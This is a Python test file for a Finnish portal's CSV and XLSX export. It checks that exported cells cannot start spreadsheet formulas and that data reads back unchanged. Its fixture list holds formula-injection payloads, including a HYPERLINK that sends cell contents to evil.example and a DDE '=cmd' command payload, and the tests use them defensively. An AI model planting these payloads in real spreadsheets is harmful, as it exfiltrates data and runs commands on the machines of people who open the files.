"""Writing of table files: they read back the same, and nothing in them runs."""

from etapalvelu.portal.core.tables.csvfile import guard
from etapalvelu.portal.core.tables.csvfile import unguard
from etapalvelu.portal.core.tables.csvfile import write_csv
from etapalvelu.portal.core.tables.read import read_table
from etapalvelu.portal.core.tables.xlsx import write_xlsx
from hypothesis import HealthCheck
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import csv
import io
import pytest

# Machines that build and test at once are slow, which says nothing of the code.
PATIENT = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
ATTACKS = [
    '=HYPERLINK("https://evil.example?"&A1;"klikkaa")',
    "=cmd|' /C calc'!A0",
    "+358 9 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
]


@PATIENT
@given(st.text() | st.text("'=+-@\t\r\nx"))
def test_unguard_undoes_guard(cell):
    assert unguard(guard(cell)) == cell


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_csv_cell_starts_a_formula(attack):
    data = write_csv(["nimi", "=otsikko"], [[attack, 'a";' + attack]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    for cell in (rows[0][1], rows[1][0]):
        assert cell.startswith("'")
    assert not rows[1][1].startswith(tuple("=+-@\t\r\n"))


def test_csv_is_what_finnish_excel_opens():
    assert write_csv(["nimi", "kunta"], [["Åbo", None]]) == (
        b"\xef\xbb\xbfnimi;kunta\r\n\xc3\x85bo;\r\n"
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_xlsx_cell_is_a_formula(attack):
    sheet = load_workbook(io.BytesIO(write_xlsx(["=nimi"], [[attack]]))).active
    assert [cell.data_type for row in sheet.iter_rows() for cell in row] == ["s", "s"]


printable = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), include_characters="\n"), max_size=20
).map(str.strip)


@PATIENT
@given(st.lists(st.tuples(printable, printable).filter(any), max_size=5))
def test_both_formats_read_back_the_same(rows):
    columns = ["nimi", "osoite"]
    for name, write in (("a.csv", write_csv), ("a.xlsx", write_xlsx)):
        table = read_table(name, write(columns, rows))
        assert table.findings == ()
        assert [tuple(row.cells.values()) for row in table.rows] == rows


def test_a_leading_zero_survives():
    table = read_table("a.xlsx", write_xlsx(["postinumero"], [["00530"]]))
    assert table.rows[0].cells == {"postinumero": "00530"}
